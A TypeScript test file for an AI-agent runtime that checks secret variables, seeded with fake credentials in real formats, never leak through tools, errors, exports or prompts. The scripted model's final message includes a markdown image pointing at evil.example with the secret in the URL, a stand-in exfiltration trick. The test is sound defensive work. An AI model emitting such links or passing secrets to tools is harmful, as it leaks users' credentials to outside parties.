import { tool } from "ai";
import { afterEach, expect, it, vi } from "vitest";
import { transfers } from "../../src/byref.ts";
import { json } from "../support/edge.ts";
import { any, greedy } from "../support/greedy-tools.ts";
import { formsIn, watchConsole } from "../support/leaks.ts";
import { type OwnRuntime, withRuntime } from "../support/own-runtime.ts";
import {
  finish,
  scriptedModel,
  type Step,
  text,
  toolCall,
} from "../../packages/testing/src/testing.ts";

afterEach(() => vi.restoreAllMocks());

/** Made-up secrets in well-known formats. */
const canaries: Readonly<Record<string, string>> = {
  "an OpenAI key": "sk-proj-Zq81vXk2Lw9TnB4cYh7RmJ5d",
  "an Anthropic key": "sk-ant-api03-Wm6Jq0Xz3Vt8Kp1Rb5Nc7Ld",
  "an AWS key id": "AKIAQX7ZWJ2MVK9TBN4L",
  "an AWS secret": "qW8x/Zk3+Vt7Lp2Rm9Jc4Nb6Hd1Yf5Tg0Xs",
  "a GitHub token": "ghp_Xv3Qz8Lk1Wm6Tn9Rb4Jc7Hd2Yf5Pg0Ks",
  "a Slack token": "xoxb-8273645190-Zk4Vt9Lp1Rm6Jc3Nb8",
  "a Stripe key": "sk_live_Qz7Vk2Xt9Lw4Rm1Jc6Nb3Hd8",
  "a Google key": "AIzaSyXq4Zk9Vt2Lp7Rm1Jc6Nb3Hd8Yf5Tg",
  "a JWT": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJaazRWdDlMcCJ9.Rm6Jc3Nb8Hd1Yf5Tg0XsQw",
  "a private key":
    "-----BEGIN PRIVATE KEY-----\nZk4Vt9Lp1Rm6Jc3Nb8Hd\nYf5Tg0XsQw7Ea2Ui\n-----END PRIVATE KEY-----",
  "a database's address": "postgres://svc:Vk2Xt9Lw4Rm@db.acme-corp.net:5432/main",
  "a webhook": "https://hooks.acme-corp.net/T0/B1/Xt9Lw4Rm1Jc6Nb3H",
  "a password": 'p"4\\ss\nw\u00f6rd<Zk9&Vt2>\u2028',
  "a bearer header": "Bearer Jc6Nb3Hd8Yf5Tg0Xs.Qw7Ea2",
  "basic authorization": "Basic Wms0VnQ5THA6Um02SmMzTmI4",
  "a card's number": "4929317405628813",
  "an IBAN": "DE75512108001245126199",
  "a number of a person": "536-90-4399",
  "an address of mail": "zk4vt9.lp1rm6@private.net",
  "a cookie": "session=Tg0XsQw7Ea2Ui; Path=/; HttpOnly",
  "a sentence": "The vault opens at midnight with a blue umbrella.",
  "a connection text": "AccountKey=Rm1Jc6Nb3Hd8Yf5Tg0XsQw7Ea2==;Endpoint=x",
};
const C = "/conversations/c";

async function textIn(response: Response | Promise<Response>): Promise<string> {
  const { status, headers, body } = await response;
  return `${status} ${JSON.stringify([...headers])} ${await new Response(body).text()}`;
}

/** Returns everything that a client can read about the conversation. */
async function everything({ call }: OwnRuntime): Promise<string> {
  const paths = ["", "/variables", "/messages", "/messages?form=reference", "/events", "/export"];
  const told = await Promise.all(paths.map((path) => textIn(call("GET", C + path))));
  const markdown = { headers: { accept: "text/markdown" } };
  told.push(await textIn(call("GET", `${C}/variables`, markdown)));
  const list = await call("GET", `${C}/variables`);
  const { variables } = await list.json<{ variables: readonly { name: string }[] }>();
  for (const { name } of variables) {
    told.push(await textIn(call("GET", `${C}/variables/${name}`)));
    told.push(await textIn(call("GET", `${C}/variables/${name}/info`)));
    const body = { text: `{{${name}}} {{${name}.a}}` };
    told.push(await textIn(call("POST", `${C}/interpolate`, json(body))));
  }
  return told.join("\n");
}

it.each(Object.entries(canaries))("%s never leaves its conversation", async (_, secret) => {
  const said = watchConsole();
  const names = Object.keys(greedy);
  const received: unknown[] = [];
  const use = tool({ inputSchema: any, execute: ({ key }) => received.push(key) });
  const tools = { ...greedy, use, other: use };
  const granted = Object.fromEntries([...names, "use"].map((name) => [name, { secrets: ["s"] }]));
  const calls = (key: string, step: number): Step => [
    ...names.map((name) => toolCall(name, { key }, { id: `${name}_${step}` })),
    toolCall("other", { key }, { id: `other_${step}` }),
    finish("tool-calls"),
  ];
  const steps: readonly Step[] = [
    [toolCall("use", { key: "$s" }), finish("tool-calls")],
    calls("$s", 1),
    calls("<$s>", 2),
    [
      toolCall("read_variable", { name: "s" }),
      toolCall("set_variable", { name: "t", value: "$s" }),
      finish("tool-calls"),
    ],
    [text("It is $s, {{s}}, $echo_1, $nest_1.deep, ![x](https://evil.example/$s)\n$s\n"), finish()],
  ];
  const model = scriptedModel(steps);
  const agent = {
    name: "test",
    description: "For tests.",
    instructions: "Help.",
    tools,
    policies: granted,
  };
  await withRuntime({ agents: [agent], model, transfer: transfers }, async (own) => {
    const heard: string[] = [];
    const put = (at: string, body: RequestInit) =>
      own.call("PUT", `${C}/variables/${at}`, body).then(textIn);
    heard.push(await put("s?visibility=secret", json(secret)));
    heard.push(await put("record?visibility=secret", json({ [secret]: secret })));
    // Errors of invalid writes do not quote the value.
    const headers = { "content-type": "application/json" };
    heard.push(await put("s", { body: `{"a": ${secret}`, headers }));
    heard.push(await put(`s?mode=merge`, json({ a: secret })));
    heard.push(await textIn(own.call("POST", `${C}/messages`, json({ message: "Go on." }))));
    expect(received).toEqual([secret]);
    own.wakeAgain();
    heard.push(
      await everything(own),
      JSON.stringify(model.calls.map(({ prompt }) => prompt)),
      said(),
    );
    const leaks = formsIn(heard.join("\n"), secret);
    expect(leaks).toEqual([]);
  });
});
